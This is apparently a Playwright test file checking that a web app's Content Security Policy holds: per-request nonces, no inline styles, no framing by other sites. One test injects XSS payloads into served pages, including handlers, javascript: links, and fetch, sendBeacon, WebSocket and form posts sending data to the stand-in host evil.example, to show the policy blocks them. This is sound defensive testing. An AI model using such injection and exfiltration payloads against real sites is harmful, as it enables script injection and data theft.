import { join } from 'node:path';
import type { Page } from 'playwright/test';
import { createDatabase } from '#prisma/client.ts';
import { addressesOf } from './addresses.ts';
import { policyOn } from './policy.ts';
import { replayKept } from './replaying.ts';
import { talks } from './talk.ts';
import { Taster } from './taster.ts';
import { expect, test } from './test.ts';

const nonceIn = (policy = '') => /'nonce-([^']+)'/.exec(policy)?.[1] ?? 'none';

/** Adds to every document before the browser reads it, as an injection in our own HTML would. */
async function inject(page: Page, html: (nonce: string) => string): Promise<void> {
  await page.route('**/*', async (route) => {
    if (route.request().resourceType() !== 'document') return route.fallback();
    const response = await route.fetch();
    const nonce = nonceIn(response.headers()['content-security-policy']);
    const body = (await response.text()).replace('</body>', () => `${html(nonce)}</body>`);
    await route.fulfill({ response, body });
  });
}

test('no page goes against its own policy, and no answer has the nonce of another', async ({
  browser,
  weerklank,
}) => {
  const context = await browser.newContext();
  const violations = policyOn(context);
  const page = await context.newPage();
  const nonces: string[] = [];
  const there = addressesOf('page.tsx');
  expect(there.length).toBeGreaterThanOrEqual(8);
  for (const address of [...there, ...there, '/nergens', '/room/nergens']) {
    const answer = await page.goto(weerklank.url + address);
    const nonce = nonceIn(answer?.headers()['content-security-policy']);
    nonces.push(nonce);
    const html = (await answer?.text()) ?? '';
    const tags = html.match(/<script\b[^>]*>/g) ?? [];
    expect(tags.length).toBeGreaterThan(5);
    expect([address, tags.filter((tag) => !tag.includes(`nonce="${nonce}"`))]).toEqual([
      address,
      [],
    ]);
    expect([address, html.match(/<[^>]* style=[^>]*>|<style\b[^>]*>/g)]).toEqual([address, null]);
    await expect(page.getByRole('main')).toBeVisible();
    // The policy holds for what the page does once it has woken up, too.
    await expect(async () => {
      for (const key of ['a', 'Shift', 'Shift']) await page.keyboard.press(key);
      await expect(page.getByRole('status').first()).not.toBeEmpty({ timeout: 500 });
    }).toPass();
  }
  expect(new Set(nonces).size).toBe(nonces.length);
  expect(violations).toEqual([]);
  await context.close();
});

test('a talk, its replay and the taste go against no policy', async ({
  browser,
  coupleIn,
  weerklank,
}) => {
  // The policy of the couple's pages is looked after for every test.
  const couple = await coupleIn('nl');
  await replayKept(couple, talks.nl.slice(0, 5));
  const context = await browser.newContext({ locale: 'nl-BE' });
  const violations = policyOn(context);
  const alone = new Taster(await context.newPage(), () => 'nl');
  await alone.arrive(weerklank.url);
  await alone.begin();
  await alone.giveBack('Je miste me.');
  await alone.hears(alone.story.heard.atOnce);
  expect(violations).toEqual([]);
  await context.close();
});

test('the page for what nobody foresaw keeps to it as well, and wakes up', async ({
  deviceFor,
  weerklank,
}) => {
  const an = await deviceFor({ name: 'An', partner: 'Bo', language: 'nl' });
  const { page, cable } = an;
  await an.startRoom();
  const db = await createDatabase({ file: join(weerklank.dataDir, 'weerklank.db') });
  await db.$executeRawUnsafe('ALTER TABLE "Seat" RENAME TO "Gone"');
  try {
    await page.goto(cable.url);
    const { title } = an.messages.errors.unexpected;
    await expect(page.getByRole('heading', { name: title })).toBeVisible();
    await expect(async () => {
      for (const key of ['a', 'Shift', 'Shift']) await page.keyboard.press(key);
      await expect(page.getByRole('status').first()).not.toBeEmpty({ timeout: 500 });
    }).toPass();
  } finally {
    await db.$executeRawUnsafe('ALTER TABLE "Gone" RENAME TO "Seat"');
    await db.$disconnect();
  }
});

test('what somebody else put into a page does not run, load, or lead away', async ({
  browser,
  weerklank,
}) => {
  const context = await browser.newContext();
  const violations = policyOn(context);
  const page = await context.newPage();
  const evil = 'https://evil.example';
  const elsewhere: string[] = [];
  // What the policy stops never gets as far as this.
  await page.route(`${evil}/**`, (route) => {
    elsewhere.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await inject(
    page,
    (nonce) => `
      <script>window.ran = 'an inline script'</script>
      <script nonce="AAAAAAAAAAAAAAAAAAAAAA==">window.ran = 'a guessed nonce'</script>
      <script src="${evil}/x.js"></script>
      <script src="/icon.svg"></script>
      <script type="module">window.ran = 'a module'</script>
      <img src="/nergens.png" onerror="window.ran = 'a handler'">
      <svg onload="window.ran = 'a handler of an image'"></svg>
      <iframe src="${evil}"></iframe>
      <iframe srcdoc="<script>parent.ran = 'a frame'</script>"></iframe>
      <object data="${evil}/x.swf"></object>
      <embed src="${evil}/x.swf">
      <base href="${evil}/">
      <link rel="stylesheet" href="${evil}/x.css">
      <img src="${evil}/x.png">
      <style>body { display: none }</style>
      <p id="styled" style="position: fixed">styled</p>
      <a id="way" href="javascript:window.ran='an address'">way</a>
      <form id="form" action="${evil}/take" method="post"><button>send</button></form>
      <script nonce="${nonce}">
        window.own = 'ran';
        try { eval('window.ran = "eval"') } catch { window.kept = 'eval' }
        try { new Function('window.ran = "Function"')() } catch { window.kept += ', Function' }
        fetch('${evil}/take?words').catch(() => { window.kept += ', fetch' });
        try { new WebSocket('wss://evil.example') } catch { window.kept += ', socket' }
        navigator.sendBeacon('${evil}/take', 'words');
      </script>`,
  );
  await page.goto(`${weerklank.url}/help`, { waitUntil: 'networkidle' });
  await page.evaluate(() => document.querySelector<HTMLElement>('#way')?.click());
  await page.evaluate(() =>
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/nergens.png" onerror="window.ran = \'a handler put in later\'"><p id="last">x</p>',
    ),
  );
  await expect(page.locator('#last')).toBeVisible();
  await page.waitForLoadState('networkidle');
  const seen = await page.evaluate(() => ({
    own: Reflect.get(window, 'own'),
    ran: Reflect.get(window, 'ran'),
    kept: Reflect.get(window, 'kept'),
    base: document.baseURI,
    styled: getComputedStyle(document.querySelector('#styled') ?? document.body).position,
    shown: getComputedStyle(document.body).display !== 'none',
  }));
  expect(seen).toMatchObject({ own: 'ran', ran: undefined, styled: 'static', shown: true });
  expect(String(seen.kept)).toContain('eval, Function');
  expect(new URL(seen.base).origin).toBe(weerklank.url);
  const before = violations.length;
  // Last, since to the runner a way out that was closed never comes to an end.
  await page.evaluate(() => document.querySelector<HTMLElement>('#form button')?.click());
  await expect.poll(() => violations.length).toBeGreaterThan(before);
  expect(elsewhere).toEqual([]);
  expect(violations.join('\n')).toContain('wss://evil.example');
  expect(violations.length).toBeGreaterThan(10);
  await context.close();
});

test('no other site can put a page of ours in a frame', async ({ browser, weerklank }) => {
  const context = await browser.newContext();
  const page = await context.newPage();
  await page.route('https://evil.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<h1>Evil</h1><iframe src="${weerklank.url}/help"></iframe>`,
    }),
  );
  await page.goto('https://evil.example/', { waitUntil: 'networkidle' });
  const framed = page.frames().filter((frame) => frame.url().startsWith(weerklank.url));
  expect(framed).toEqual([]);
  await context.close();
});
